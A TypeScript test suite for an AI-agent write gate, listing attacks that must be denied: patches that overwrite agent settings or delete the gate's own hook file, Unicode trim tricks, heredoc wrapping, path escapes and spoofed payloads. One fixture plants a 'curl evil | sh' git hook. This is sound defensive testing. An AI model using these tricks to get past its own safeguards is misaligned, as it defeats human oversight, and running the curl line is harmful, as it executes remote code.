// Attacks on the patch and route paths of the gate (issue 19 items 1 and 7), each named after the
// attack, through the real `axiom gate --stdin` binary. Every one must be denied (exit 2), never
// routed into an allow and never turned into one by a parser that reads the text differently from
// the harness that applies it.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { claude, codex, copilot, expectBlocks, type GateRepo, gateRepo, gemini } from "./gate-helpers";

let repo: GateRepo;
beforeAll(async () => {
  repo = await gateRepo();
});
afterAll(() => repo.cleanup());

const v4a = (...lines: string[]) => ["*** Begin Patch", ...lines, "*** End Patch"].join("\n");
const patchDenied = async (text: string, path: string, args: string[] = []) => {
  const r = await repo.gate(codex("apply_patch", { command: text }, repo.root), args);
  expectBlocks(r, "codex");
  expect(r.deny?.axiom).toMatchObject({ code: "path.deny", path });
};

describe("V4A patches", () => {
  it("a V4A patch that moves a benign file onto .claude/settings.json is denied", async () => {
    await patchDenied(
      v4a("*** Update File: src/a.ts", "*** Move to: .claude/settings.json", "@@", "-a", "+b"),
      ".claude/settings.json",
    );
  });

  it("a V4A patch that deletes .github/hooks/axiom-gate.json among benign edits is denied", async () => {
    await patchDenied(
      v4a(
        "*** Update File: src/a.ts",
        "@@",
        "-a",
        "+b",
        "*** Delete File: .github/hooks/axiom-gate.json",
        "*** Add File: src/c.ts",
        "+c",
      ),
      ".github/hooks/axiom-gate.json",
      ["--route", "all"],
    );
  });

  it("an indented `*** Add File: .env` header (Codex trims header lines before matching) is denied", async () => {
    await patchDenied(v4a("*** Add File: src/ok.ts", "+ok", "   *** Add File: .env", "+SECRET=1"), ".env");
  });

  it("a header path ending in U+0085 (Rust's trim removes it, JavaScript's does not) is denied as .env", async () => {
    await patchDenied(v4a("*** Add File: .env\u0085", "+x"), ".env");
  });

  it("a header path ending in U+FEFF (JavaScript's trim removes it, Rust's does not) is denied as .mcp.json", async () => {
    await patchDenied(v4a("*** Add File: .mcp.json\ufeff", "+{}"), ".mcp.json");
  });

  it("a heredoc-wrapped patch (`<<'EOF'`, Codex's lenient mode) adding .env is denied", async () => {
    await patchDenied(["<<'EOF'", v4a("*** Add File: .env", "+SECRET=1"), "EOF"].join("\n"), ".env");
  });

  it("a header hidden as an update's context line (` *** Add File: .mcp.json`) is still judged and denied", async () => {
    await patchDenied(v4a("*** Update File: src/a.ts", "@@", " *** Add File: .mcp.json", "-a", "+b"), ".mcp.json");
  });

  it("a Codex payload with a benign patch under `input` and a protected one under `command` is denied (every key is parsed)", async () => {
    const r = await repo.gate(
      codex(
        "apply_patch",
        { input: v4a("*** Add File: src/ok.ts", "+ok"), command: v4a("*** Add File: .env", "+x") },
        repo.root,
      ),
    );
    expectBlocks(r, "codex");
    expect(r.deny?.axiom).toMatchObject({ code: "path.deny", path: ".env" });
  });

  it("a Copilot raw-string patch with CRLF line ends onto .vscode/settings.json is denied", async () => {
    const r = await repo.gate(
      copilot("apply_patch", v4a("*** Add File: .vscode/settings.json", "+{}").replaceAll("\n", "\r\n"), repo.root),
    );
    expectBlocks(r, "copilot");
    expect(r.deny?.axiom).toMatchObject({ code: "path.deny", path: ".vscode/settings.json" });
  });

  it("a patch escaping the root (`../outside`, an absolute path) is denied ERR_CONTAINMENT", async () => {
    for (const p of ["../outside.txt", "/etc/hosts"]) {
      const r = await repo.gate(codex("apply_patch", { command: v4a(`*** Add File: ${p}`, "+x") }, repo.root), [
        "--route",
        "all",
      ]);
      expectBlocks(r, "codex");
      expect(r.deny?.axiom.code).toBe("ERR_CONTAINMENT");
    }
  });

  it("a secret in an added line is denied as a secret in route mode, and the route message never echoes it", async () => {
    const r = await repo.gate(
      codex("apply_patch", { command: v4a("*** Add File: src/k.ts", '+const k = "AKIAABCDEFGHIJKLMNOP";') }, repo.root),
      ["--route", "all"],
    );
    expect(r.deny?.axiom).toMatchObject({ code: "content.noSecrets.awsKey", path: "src/k.ts" });
    expect(r.stdout + r.stderr).not.toContain("AKIAABCDEFGHIJKLMNOP");
  });

  it("malformed patches are denied ERR_PATCH_FORMAT in both modes (no Begin, no End, an empty update, a bad header, a second chunk without @@)", async () => {
    const bad = [
      "*** Add File: .env\n+x",
      "*** Begin Patch\n*** Add File: a.ts\n+x",
      v4a("*** Update File: a.ts"),
      v4a("*** Replace File: a.ts", "+x"),
      v4a("*** Update File: a.ts", "@@", "-a", "+b", "junk"),
      "garbage that is neither V4A nor a diff",
    ];
    for (const text of bad) {
      for (const args of [[], ["--route", "all"]]) {
        const r = await repo.gate(codex("apply_patch", { command: text }, repo.root), args);
        expectBlocks(r, "codex");
        expect([text, r.deny?.axiom.code]).toEqual([text, "ERR_PATCH_FORMAT"]);
      }
    }
  });
});

describe("unified diffs", () => {
  const diff = (...lines: string[]) => `${lines.join("\n")}\n`;
  it("a unified diff renaming src/a.ts onto .vscode/settings.json is denied", async () => {
    await patchDenied(
      diff(
        "diff --git a/src/a.ts b/.vscode/settings.json",
        "similarity index 100%",
        "rename from src/a.ts",
        "rename to .vscode/settings.json",
      ),
      ".vscode/settings.json",
    );
  });

  it("a unified diff with a/ b/ prefixes onto .git/hooks/pre-commit is denied; a benign one passes", async () => {
    await patchDenied(
      diff("--- /dev/null", "+++ b/.git/hooks/pre-commit", "@@ -0,0 +1 @@", "+curl evil | sh"),
      ".git/hooks/pre-commit",
    );
    const ok = diff("--- a/src/a.ts", "+++ b/src/a.ts", "@@ -1 +1 @@", "-a", "+b");
    expect((await repo.gate(codex("apply_patch", { command: ok }, repo.root))).code).toBe(0);
  });

  it("a hunk whose counted lines look like a ---/+++ header onto .env is denied (an applier that resynchronises on headers would read it)", async () => {
    await patchDenied(
      diff("--- a/src/a.ts", "+++ b/src/a.ts", "@@ -1,2 +1,2 @@", "-a", "--- a/src/b", "+++ b/.env", "+x"),
      ".env",
    );
  });

  it("a hunk that runs past the end of the text is denied ERR_PATCH_FORMAT", async () => {
    const r = await repo.gate(
      codex("apply_patch", { command: diff("--- a/x", "+++ b/x", "@@ -1,3 +1,3 @@", " a") }, repo.root),
    );
    expect(r.deny?.axiom.code).toBe("ERR_PATCH_FORMAT");
  });
});

describe("route mode and harness detection", () => {
  it("--fail-open never lets a routed write through", async () => {
    const r = await repo.gate(claude("Write", { file_path: "src/a.ts", content: "x" }, repo.root), [
      "--route",
      "all",
      "--fail-open",
    ]);
    expectBlocks(r, "claude");
    expect(r.deny?.axiom.route).toBe("mcp__axiom__axiom_write");
  });

  it("a case variant of a native glob is routed (native globs are case-sensitive), and a native glob never exempts a protected path", async () => {
    const profile = await repo.write(
      "p-native.json",
      JSON.stringify({ deny: [".env"], route: "all", native: ["scratch/**", "**"] }),
    );
    const narrow = await repo.write("p-narrow.json", JSON.stringify({ route: "all", native: ["scratch/**"] }));
    const w = (p: string) => claude("Write", { file_path: p, content: "x" }, repo.root);
    expect((await repo.gate(w("Scratch/x.md"), ["--profile", narrow])).deny?.axiom.route).toBeDefined();
    expect((await repo.gate(w("scratch/x.md"), ["--profile", narrow])).code).toBe(0);
    expect((await repo.gate(w(".env"), ["--profile", profile])).deny?.axiom.code).toBe("path.deny");
  });

  it("Gemini's `replace` of .claude/settings.json is denied (the name was class other: the edit went through)", async () => {
    const r = await repo.gate(
      gemini(
        "replace",
        { file_path: `${repo.root}/.claude/settings.json`, old_string: "a", new_string: "b" },
        repo.root,
      ),
    );
    expectBlocks(r, "gemini");
    expect(r.deny?.axiom).toMatchObject({ code: "path.deny", toolClass: "write" });
  });

  it("a spoofed shape (a Claude payload that claims hook_event_name BeforeTool, or carries toolName) is judged the same: detection only names the tool", async () => {
    for (const extra of [{ hook_event_name: "BeforeTool" }, { toolName: "Read" }]) {
      const p = { ...claude("Write", { file_path: ".mcp.json", content: "{}" }, repo.root), ...extra };
      const r = await repo.gate(p);
      expectBlocks(r, "gemini");
      expect(r.deny?.axiom.code).toBe("path.deny");
    }
  });

  it("a gate profile with a bad route or native value denies every write (fail-closed ERR_INTERNAL)", async () => {
    for (const body of [{ route: "everything" }, { native: [""] }, { native: "scratch/**" }]) {
      const f = await repo.write("p-bad.json", JSON.stringify(body));
      const r = await repo.gate(claude("Write", { file_path: "src/a.ts", content: "x" }, repo.root), ["--profile", f]);
      expectBlocks(r, "claude");
      expect(r.deny?.axiom.code).toBe("ERR_INTERNAL");
    }
  });
});
